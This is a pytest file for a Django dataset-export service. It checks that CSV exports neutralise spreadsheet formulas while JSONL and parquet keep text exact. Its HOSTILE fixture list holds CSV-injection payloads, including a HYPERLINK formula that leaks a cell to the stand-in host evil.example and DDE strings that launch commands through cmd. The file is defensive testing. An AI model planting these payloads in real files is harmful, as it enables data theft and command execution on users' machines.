"""CSV cells that a spreadsheet would run as formulas are neutralised; JSONL and parquet stay byte-exact."""

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
from django.core.files.storage import default_storage

from datasets import services
from datasets.models import Release
from datasets.options import ExportOptions

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
]
PLAIN_BUT_AWKWARD = "A lone carriage return\rin the middle, and a line feed\nafter it."


def _stored(release, name):
    with default_storage.open(f"{release.storage_prefix}/{name}", "rb") as handle:
        return handle.read()


def test_formula_cells_are_quoted_in_csv_only(approved):
    for text in HOSTILE:
        approved("open_qa", instruction=f"Is this safe? {len(text)}", response=text)
    approved("open_qa", instruction="Awkward?", response=PLAIN_BUT_AWKWARD)
    approved("open_qa", instruction="=1+1 in an instruction?", response="A plain answer, with = inside.")
    options = ExportOptions(formats=("jsonl", "parquet", "csv"), with_metadata=False)
    release = Release.objects.create(filters=options.filters_dict(), formats=list(options.formats))
    assert services.release_build(release.pk) == Release.State.DONE
    release.refresh_from_db()

    rows = list(csv.DictReader(io.StringIO(_stored(release, "data.csv").decode("utf-8"), newline="")))
    responses = [row["response"] for row in rows]
    assert responses[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert len(rows) == len(HOSTILE) + 2
    assert rows[-2]["response"] == PLAIN_BUT_AWKWARD
    assert rows[-1]["instruction"] == "'=1+1 in an instruction?"
    assert rows[-1]["response"] == "A plain answer, with = inside."
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())

    jsonl = [json.loads(line) for line in _stored(release, "data.jsonl").decode("utf-8").splitlines()]
    assert [record["response"] for record in jsonl[: len(HOSTILE)]] == HOSTILE
    assert jsonl[-1]["instruction"] == "=1+1 in an instruction?"
    table = pq.read_table(io.BytesIO(_stored(release, "data.parquet")))
    assert table.column("response").to_pylist()[: len(HOSTILE)] == HOSTILE

    assert "Spreadsheet formulas are neutralised in `data.csv`" in release.card
    assert "The JSONL and parquet files hold every text exactly as written." in release.card


def test_the_card_says_nothing_of_formulas_without_csv(approved):
    approved("open_qa", instruction="Plain?", response="=1")
    release = Release.objects.create(filters=ExportOptions().filters_dict(), formats=["jsonl"])
    services.release_build(release.pk)
    release.refresh_from_db()
    assert "Spreadsheet formulas" not in release.card
